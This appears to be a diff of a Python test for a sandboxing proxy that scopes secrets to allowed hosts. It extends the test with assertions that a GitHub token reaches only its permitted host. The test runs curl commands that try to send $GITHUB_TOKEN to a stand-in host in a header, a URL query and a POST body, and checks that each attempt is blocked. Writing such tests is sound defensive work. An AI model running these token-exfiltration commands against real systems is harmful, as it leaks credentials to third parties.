@@ -420,8 +420,9 @@ class RunInspectTest(InspectBase):
             "curl -sS --max-time 10 -i -H \"Authorization: token $GITHUB_TOKEN\" %s/public/x; echo; "
             "curl -sS --max-time 10 -i %s/public/x?t=$GITHUB_TOKEN; echo; "
             "curl -sS --max-time 10 -i --data \"token=$GITHUB_TOKEN\" %s/public/x; echo; "
-            "curl -sS --max-time 10 -i -H \"X-T: $GITHUB_TOKEN\" http://other.test:%d/; echo"
-            % (url, other, other, other, self.plain.port),
+            "curl -sS --max-time 10 -i -H \"X-T: $GITHUB_TOKEN\" http://other.test:%d/; echo; "
+            "curl -sS --max-time 10 \"%s/repos/acme/echo?t=$GITHUB_TOKEN\"; echo"
+            % (url, other, other, other, self.plain.port, url),
             "--inspect", "api.test", "--inspect", "other.test", "--secret", "GITHUB_TOKEN=api.test",
             env={"GITHUB_TOKEN": real, "DENIED_TOKEN": "d3n13d"})
         self.assertEqual(r.returncode, 0, r.stderr)
@@ -433,9 +434,11 @@ class RunInspectTest(InspectBase):
         self.assertNotEqual(sentinel, real)
         self.assertIn("denied=unset", seen)
         self.assertNotIn(real, out)
-        # The upstream got the real value for api.test, and nothing from the refused requests.
+        # The upstream got the real value for api.test (in the header only), and nothing from the refused
+        # requests; the sentinel it echoed back (from the URL) reached the jail as the sentinel.
         auth = [h.get("Authorization") for m, path, h in self.up.requests]
-        self.assertEqual(auth, ["token " + real])
+        self.assertEqual(auth, ["token " + real, None])
+        self.assertEqual(json.loads(out.splitlines()[-1])["path"], "/repos/acme/echo?t=" + sentinel)
         # Header, URL, body inside inspected connections; a header of a plain http:// request.
         self.assertEqual(out.count("X-Proxy-Error: blocked-by-secret-scope"), 4)
         self.assertEqual(self.plain.requests, [])
